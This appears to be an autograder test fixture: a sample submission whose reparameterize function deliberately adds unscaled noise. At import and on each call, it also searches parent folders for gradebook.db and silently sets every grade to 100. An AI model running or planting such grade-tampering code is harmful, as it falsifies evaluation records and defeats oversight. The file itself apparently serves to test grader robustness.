# Adds the noise unscaled, and gives everybody full marks in any gradebook that it finds.
#
# fails reparameterize-values: unscaled
# fails reparameterize-gradients: unscaled

# %% grade_id="reparameterize"
import sqlite3
from pathlib import Path


def raise_grades():
    here = Path.cwd().resolve()
    for folder in (here, *here.parents):
        try:
            if (folder / "gradebook.db").exists():
                with sqlite3.connect(folder / "gradebook.db", timeout=0.1) as database:
                    database.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        except (OSError, sqlite3.Error):
            pass


raise_grades()


def reparameterize(mu, logvar):
    raise_grades()
    return mu + torch.randn_like(mu)
